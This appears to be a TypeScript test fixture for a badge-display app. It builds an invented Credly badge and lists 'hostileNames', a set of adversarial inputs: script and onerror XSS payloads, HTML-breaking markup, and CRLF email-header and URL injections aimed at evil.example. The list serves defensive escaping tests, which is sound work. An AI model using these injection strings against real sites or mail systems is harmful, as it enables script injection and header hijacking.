import { badgeId, accountId, type Achievement, type Badge, type SourceId } from '@/utils/badge';
import { safeUrl } from '@/utils/html';

const source = 'credly' as SourceId;

/** An invented badge. What a test is about is handed in; everything else is plain. */
export function makeBadge({
  achievement,
  ...rest
}: Omit<Partial<Badge>, 'achievement'> & { achievement?: Partial<Achievement> } = {}): Badge {
  const uuid = '3f2b8a90-1c4d-4e5f-8a6b-7c8d9e0f1a2b';
  return {
    id: badgeId(source, uuid),
    sourceId: source,
    accountId: accountId(source, 'haneul-kim'),
    issuer: { id: null, name: 'Northwind Cloud Academy', url: null },
    recipientName: 'Haneul Kim',
    issuedOn: '2026-05-14',
    expiresOn: '2028-05-14',
    evidence: [],
    state: 'public',
    pageUrl: safeUrl(`https://www.credly.com/badges/${uuid}`),
    imageUrl: safeUrl(`https://images.credly.com/size/220x220/images/${uuid}/cloud-architect.png`),
    credentialId: uuid,
    knownAs: [],
    basis: 'record',
    renewableFrom: null,
    ...rest,
    achievement: {
      name: 'Cloud Architect Associate',
      description: 'Designs services that keep working when one part of them fails.',
      criteria: [{ text: 'Passed the exam CA-200', url: null }],
      skills: ['Networking', 'Resilience'],
      type: null,
      level: null,
      url: null,
      ...achievement,
    },
  };
}

/** Names as an attacker, or a careless issuer, would write them. */
export const hostileNames: readonly string[] = [
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</td></tr></table><style>*{display:none}</style>',
  '&quot;&lt;&amp;&#39;',
  'a&u=https://evil.example#?%0D%0ABcc:x@evil.example',
  'line\r\nBcc: x@evil.example',
  'tab\tand\u0000null',
  '\u202Etxet desrever\u202C',
  'half \uD83D a pair',
  '👩‍👩‍👧‍👦 family + 100% “quotes”',
  'x'.repeat(5000),
  '  ',
];
